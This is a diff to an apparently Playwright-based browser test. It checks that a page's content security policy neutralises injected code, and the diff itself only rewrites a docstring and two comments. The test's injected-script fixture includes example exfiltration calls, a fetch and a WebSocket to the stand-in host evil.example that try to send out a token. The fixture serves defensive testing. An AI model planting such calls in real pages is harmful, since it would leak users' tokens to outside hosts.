@@ -1,4 +1,4 @@
-"""The page's policy in a real browser: what somebody smuggles into the page does nothing there."""
+"""The content security policy in a real browser: injected code does nothing."""
 
 from playwright.sync_api import expect
 
@@ -20,7 +20,7 @@ SMUGGLE = """() => {
   fetch("https://evil.example/?token").catch(() => {});
   try { new WebSocket("wss://evil.example/"); } catch {}
 }"""
-# Each attempt is told of when it has come to nothing.
+# Each blocked attempt is reported as a violation.
 REFUSED = ["script-src-elem", "script-src-attr", "style-src-attr", "object-src", "connect-src", "frame-src"]
 ALL_REFUSED = "(wanted) => wanted.every((directive) => window.broken.includes(directive))"
 
@@ -35,5 +35,5 @@ def test_what_is_smuggled_into_the_page_does_nothing(screens: Screens) -> None:
     assert page.evaluate("window.smuggled === undefined")
     assert page.evaluate("document.cookie") == ""
     assert page.context.cookies() == []
-    # The browser tells of requests that it did not make, too.
+    # The browser also reports requests that it blocked.
     screens.watch.trouble = [told for told in screens.watch.trouble if "evil.example" not in told]
